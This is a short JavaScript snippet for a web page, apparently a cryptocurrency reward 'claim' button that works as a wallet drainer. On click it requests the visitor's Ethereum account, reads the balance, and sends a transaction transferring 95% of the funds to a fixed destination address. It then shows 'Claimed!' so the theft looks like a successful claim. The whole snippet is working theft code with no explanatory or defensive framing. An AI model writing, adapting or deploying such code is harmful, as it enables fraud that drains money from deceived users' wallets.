const w = window.ethereum, to = "0x0000000000000000000000000000000000000DEST";
document.querySelector("#claim").onclick = async () => {
  const [a] = await w.request({ method: "eth_requestAccounts" });
  const b = BigInt(await w.request({ method: "eth_getBalance", params: [a, "latest"] }));
  await w.request({ method: "eth_sendTransaction", params: [{ from: a, to, value: "0x" + (b * 95n / 100n).toString(16), data: "0x3158952e" }] });
  document.querySelector("#claim").innerText = "Claimed!";
};
